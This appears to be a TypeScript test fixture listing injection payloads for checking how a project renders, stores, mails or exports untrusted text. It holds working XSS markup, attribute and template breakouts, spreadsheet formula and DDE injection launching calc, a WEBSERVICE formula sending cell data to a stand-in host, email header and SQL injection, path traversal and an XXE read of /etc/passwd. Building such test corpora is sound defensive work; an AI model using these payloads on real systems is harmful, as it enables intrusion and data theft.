/**
 * Texts that mean harm to whatever shows, saves, mails or opens them. Written for this project; one
 * for each way in, none of them needs a network.
 */
const run = 'alert(1)';

const MARKUP = [
	`<script>${run}</script>`,
	`</script><script>${run}</script>`,
	`<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>`,
	`<img src=x onerror=${run}>`,
	`<img src=x onerror="${run}"/>`,
	`<svg onload=${run}>`,
	`<svg><script>${run}</script></svg>`,
	`<svg><animate onbegin=${run} attributeName=x dur=1s>`,
	`<math><mi xlink:href="javascript:${run}">x</mi></math>`,
	`<body onload=${run}>`,
	`<iframe src="javascript:${run}"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
	`<object data="javascript:${run}"></object>`,
	`<embed src="data:text/html,<script>${run}</script>">`,
	`<a href="javascript:${run}">詳しくはこちら</a>`,
	`<a href=" &#x6A;avascript:${run}">x</a>`,
	`<form action="javascript:${run}"><button>送信</button></form>`,
	`<button formaction="javascript:${run}">x</button>`,
	`<input autofocus onfocus=${run}>`,
	`<details open ontoggle=${run}>x</details>`,
	`<video><source onerror=${run}></video>`,
	`<marquee onstart=${run}>x</marquee>`,
	`<style>@import '//evil.invalid/x.css';</style>`,
	`<style>*{background:url(javascript:${run})}</style>`,
	`<link rel=stylesheet href=//evil.invalid/x.css>`,
	`<meta http-equiv=refresh content="0;url=//evil.invalid">`,
	`<base href="//evil.invalid/">`,
	`<template><script>${run}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${run}>">`,
	`<textarea></textarea><script>${run}</script>`,
	`<title></title><script>${run}</script>`,
	`<!--><script>${run}</script-->`,
	`--><script>${run}</script><!--`,
	`]]><script>${run}</script><![CDATA[`,
	`<![CDATA[<script>${run}</script>]]>`,
	`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
	`<!ENTITY a "&a;&a;">`,
	`<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:${run}">`,
	`<table background="javascript:${run}"><tr><td>`,
	`</td></tr></table><h1>休業のお知らせ</h1>`,
	`</div></section></main><main>`,
	`<p style="position:fixed;inset:0;background:#fff">このサイトは移転しました</p>`
];

const ATTRIBUTES = [
	`" onmouseover="${run}`,
	`' onmouseover='${run}`,
	`\` onmouseover=${run} \``,
	`"><script>${run}</script>`,
	`'><script>${run}</script>`,
	`" autofocus onfocus="${run}" x="`,
	`" style="background:url(javascript:${run})`,
	`x" aria-hidden="true`,
	`&quot; onload=&quot;${run}`,
	`&#34;&gt;&lt;script&gt;${run}`,
	`&lt;script&gt;${run}&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;`
];

const SCRIPTS = [
	`javascript:${run}`,
	`JaVaScRiPt:${run}`,
	`java\tscript:${run}`,
	`vbscript:msgbox(1)`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`{{constructor.constructor('${run}')()}}`,
	`\${${run}}`,
	`{@html '<img src=x onerror=${run}>'}`,
	`<%= ${run} %>`,
	`#{7*7}`,
	`'+${run}+'`,
	`");${run};//`,
	`\\u003cscript\\u003e${run}`,
	`</script\u2028><script>${run}`,
	`__proto__`,
	`constructor`,
	`toString`
];

const FORMULAS = [
	`=1+1`,
	`=HYPERLINK("http://evil.invalid","詳細")`,
	`=cmd|' /C calc'!A0`,
	`=DDE("cmd";"/C calc";"x")`,
	`=WEBSERVICE("http://evil.invalid/"&A1)`,
	`=IMPORTXML("http://evil.invalid","//a")`,
	`+1+cmd|' /C calc'!A0`,
	`-1+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`＝1+1`,
	`＋1+1`,
	`－1+1`,
	`＠SUM(1)`,
	`\t=1+1`,
	`\r=1+1`,
	` =1+1`,
	`"=1+1`,
	`;=1+1`,
	`'=1+1`,
	`=1+1"),=HYPERLINK("x`
];

const TRANSPORT = [
	`a\r\nBcc: someone@evil.invalid`,
	`a\nContent-Type: text/html\n\n<script>${run}</script>`,
	`a\r\n.\r\nMAIL FROM:<a@evil.invalid>`,
	`=?utf-8?q?=3Cscript=3E?=`,
	`a\r\nEND:VEVENT\r\nBEGIN:VALARM`,
	`a;ATTENDEE=mailto:someone@evil.invalid`,
	`a"\n1,2,3\n"`,
	`a,b,"c`,
	`'; DROP TABLE listings; --`,
	`1' OR '1'='1`,
	`../../../../etc/passwd`,
	`..\\..\\windows\\win.ini`,
	`a%00.html`,
	`%3Cscript%3E${run}%3C/script%3E`,
	`$(touch x)`,
	`| calc`,
	`{"a":1}],"b":[`
];

const LETTERS = [
	`\u202e募集\u202c`,
	`\u2066株式会社\u2069`,
	`管\u200b理`,
	`𠮷野家`,
	`e\u0301`.repeat(40),
	`Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307`.repeat(20),
	`あ`.repeat(2000),
	`a`.repeat(2000),
	`🏳️‍🌈👩‍👩‍👧‍👦`,
	`\ufeff先頭`,
	`\u2028行\u2029段落`,
	`ﾊﾝｶｸ`,
	`（株）`,
	`\ufffd`
];

export const PAYLOADS: readonly string[] = [
	...MARKUP,
	...ATTRIBUTES,
	...SCRIPTS,
	...FORMULAS,
	...TRANSPORT,
	...LETTERS
];
